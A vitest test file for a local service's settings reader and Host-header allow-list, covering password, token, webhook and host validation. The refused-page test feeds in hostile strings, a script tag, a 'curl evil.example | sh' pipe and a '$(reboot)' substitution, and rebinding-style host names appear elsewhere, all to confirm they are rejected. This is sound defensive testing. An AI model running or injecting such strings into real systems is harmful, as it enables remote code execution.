import { homedir } from 'node:os'
import { describe, expect, it } from 'vitest'
import { isAllowedHost, ownAddress } from './http/allowed-host.ts'
import { refusedHostPage } from './http/bare-page.ts'
import { readSettings } from './settings.ts'

describe('settings', () => {
  it('the defaults are loopback, the default home and a closed HTTP API', () => {
    const read = readSettings({})
    expect(read).toMatchObject({
      ok: true,
      value: {
        hermesHome: `${homedir()}/.hermes`,
        dataDir: `${homedir()}/.hermes-steward`,
        host: '127.0.0.1',
        port: 9191,
        credentials: { operatorPassword: null, viewerPassword: null, operatorToken: null, viewerToken: null },
        readOnly: false,
        logLevel: 'info',
      },
    })
  })

  it('an empty variable counts as unset', () => {
    expect(readSettings({ HERMES_HOME: ' ', STEWARD_PORT: '', STEWARD_TOKEN: '' })).toEqual(readSettings({}))
  })

  it('homes are separated by colons and ~ expands to the user’s folder', () => {
    const read = readSettings({ STEWARD_HOMES: '~/a: /b :', HERMES_HOME: '~' })
    expect(read).toMatchObject({
      ok: true,
      value: { extraHomes: [`${homedir()}/a`, '/b'], hermesHome: homedir() },
    })
  })

  it.each([
    ['a port out of range', { STEWARD_PORT: '70000' }, 'STEWARD_PORT'],
    ['an address others can reach without a password', { STEWARD_HOST: '0.0.0.0' }, 'STEWARD_PASSWORD'],
    ['a token that can be guessed', { STEWARD_TOKEN: 'short' }, 'STEWARD_TOKEN'],
    [
      'a viewer’s token that can be guessed',
      { STEWARD_VIEWER_TOKEN: 'x'.repeat(23) },
      'STEWARD_VIEWER_TOKEN',
    ],
    [
      'one token for both roles',
      { STEWARD_TOKEN: 'x'.repeat(24), STEWARD_VIEWER_TOKEN: 'x'.repeat(24) },
      'the same',
    ],
    ['a webhook that is not a URL', { STEWARD_WEBHOOK_URL: 'hooks.example' }, 'STEWARD_WEBHOOK_URL'],
    ['a webhook with a file URL', { STEWARD_WEBHOOK_URL: 'file:///etc/passwd' }, 'http:// or https://'],
    [
      'a webhook with a password in its address',
      { STEWARD_WEBHOOK_URL: 'https://me:word@hooks.example/' },
      'STEWARD_WEBHOOK_SECRET',
    ],
    [
      'a webhook’s secret that can be guessed',
      { STEWARD_WEBHOOK_URL: 'https://hooks.example/', STEWARD_WEBHOOK_SECRET: 'short' },
      'STEWARD_WEBHOOK_SECRET',
    ],
    ['true instead of 1', { STEWARD_READ_ONLY: 'true' }, 'STEWARD_READ_ONLY must be 1 or 0, not "true"'],
    ['yes instead of 1', { STEWARD_TRUST_PROXY: 'yes' }, 'STEWARD_TRUST_PROXY must be 1 or 0'],
    ['an unknown log level', { STEWARD_LOG_LEVEL: 'verbose' }, 'STEWARD_LOG_LEVEL must be one of debug,'],
    [
      'a port among the host names',
      { STEWARD_ALLOWED_HOSTS: 'a.lan, nas.lan:9191' },
      '"nas.lan:9191" is none',
    ],
    ['an address among the host names', { STEWARD_ALLOWED_HOSTS: 'https://a.lan' }, 'STEWARD_ALLOWED_HOSTS'],
    ['a password that ends with a space', { STEWARD_PASSWORD: 'secret ' }, 'STEWARD_PASSWORD begins or ends'],
    [
      'a short password where others can reach it',
      { STEWARD_HOST: '0.0.0.0', STEWARD_PASSWORD: 'x'.repeat(11) },
      'STEWARD_PASSWORD has 11 characters. Others can reach Steward, so it needs at least 12.',
    ],
    [
      'a viewer’s short password where others can reach it',
      {
        STEWARD_HOST: '192.168.1.5',
        STEWARD_PASSWORD: 'x'.repeat(12),
        STEWARD_VIEWER_PASSWORD: 'y'.repeat(11),
      },
      'STEWARD_VIEWER_PASSWORD has 11 characters',
    ],
    [
      'a short password behind a proxy',
      { STEWARD_TRUST_PROXY: '1', STEWARD_PASSWORD: 'x'.repeat(11) },
      'STEWARD_PASSWORD has 11 characters',
    ],
    [
      'a short password of characters that take two units each',
      { STEWARD_HOST: '0.0.0.0', STEWARD_PASSWORD: '🐴'.repeat(11) },
      'STEWARD_PASSWORD has 11 characters',
    ],
    ['one password for both roles', { STEWARD_PASSWORD: 'x', STEWARD_VIEWER_PASSWORD: 'x' }, 'the same'],
  ])('%s stops the start and names the setting', (_, env, name) => {
    const read = readSettings(env)
    expect(read.ok ? '' : read.fault).toContain(name)
  })
})

it('a webhook has a URL and an optional secret, and errors never quote either', () => {
  expect(readSettings({})).toMatchObject({ ok: true, value: { webhook: null } })
  expect(readSettings({ STEWARD_WEBHOOK_URL: 'http://127.0.0.1:9/in' })).toMatchObject({
    ok: true,
    value: { webhook: { url: 'http://127.0.0.1:9/in', secret: null } },
  })
  const secret = 'x'.repeat(24)
  expect(
    readSettings({ STEWARD_WEBHOOK_URL: 'https://hooks.example/key', STEWARD_WEBHOOK_SECRET: secret }),
  ).toMatchObject({ ok: true, value: { webhook: { url: 'https://hooks.example/key', secret } } })
  const wrong = readSettings({ STEWARD_WEBHOOK_URL: 'ftp://hooks.example/very-secret-key' })
  expect(wrong.ok ? '' : wrong.fault).not.toContain('very-secret-key')
})

it('an address that other machines can reach is allowed with a password of twelve characters', () => {
  expect(readSettings({ STEWARD_HOST: '0.0.0.0', STEWARD_PASSWORD: 'exactly 12 c' })).toMatchObject({
    ok: true,
    value: { host: '0.0.0.0' },
  })
})

it('on this machine alone, a password may be short', () => {
  for (const STEWARD_HOST of ['', '127.0.0.1', '::1', 'localhost'])
    expect(
      readSettings({ STEWARD_HOST, STEWARD_PASSWORD: 'short', STEWARD_VIEWER_PASSWORD: 'too' }),
    ).toMatchObject({ ok: true })
})

it.each([
  [undefined, false],
  ['', false],
  ['0', false],
  ['1', true],
])('a switch that is %j is %s', (value, is) => {
  expect(readSettings({ STEWARD_READ_ONLY: value, STEWARD_TRUST_PROXY: value })).toMatchObject({
    ok: true,
    value: { readOnly: is, trustProxy: is },
  })
})

it.each([
  ['127.0.0.1', 'http://127.0.0.1:9191'],
  ['::1', 'http://[::1]:9191'],
  ['0.0.0.0', 'http://127.0.0.1:9191'],
  ['::', 'http://127.0.0.1:9191'],
  ['192.168.1.5', 'http://192.168.1.5:9191'],
  ['nas.lan', 'http://nas.lan:9191'],
  ['fd00::5', 'http://[fd00::5]:9191'],
])('listening on %s, the printed address is %s and is answered', (STEWARD_HOST, address) => {
  const read = readSettings({ STEWARD_HOST, STEWARD_PASSWORD: 'x'.repeat(12) })
  if (!read.ok) throw new Error(read.fault)
  expect(ownAddress(read.value)).toBe(address)
  expect(isAllowedHost(new URL(address).host, read.value.allowedHosts)).toBe(true)
})

describe('host names', () => {
  it.each(['127.0.0.1:9191', 'localhost', 'LOCALHOST:1', '[::1]:9191', 'nas.lan:9191'])(
    '%s is answered',
    (host) => {
      expect(isAllowedHost(host, ['nas.lan'])).toBe(true)
    },
  )

  it.each([
    null,
    '',
    'evil.example',
    'localhost.evil.example',
    '127.0.0.1.evil.example',
    'localhost:9191@evil.example',
    'a b',
    'nas.lan.',
    '::1',
  ])('%s is refused', (host) => {
    expect(isAllowedHost(host, ['nas.lan'])).toBe(false)
  })

  it('the refusal shows the setting to copy and never repeats an invalid header', () => {
    expect(refusedHostPage('nas.lan:9191', [])).toContain('STEWARD_ALLOWED_HOSTS=nas.lan npm start')
    expect(refusedHostPage('NAS.lan', ['a.lan', 'b.lan'])).toContain('=a.lan,b.lan,nas.lan npm start')
    for (const odd of ['<script>alert(1)</script>', 'x; curl evil.example | sh', '$(reboot)', 'a b', null]) {
      const page = refusedHostPage(odd, ['a.lan'])
      expect(page).toContain('STEWARD_ALLOWED_HOSTS=a.lan,NAME npm start')
      if (odd !== null) expect(page).not.toContain(odd)
    }
  })
})
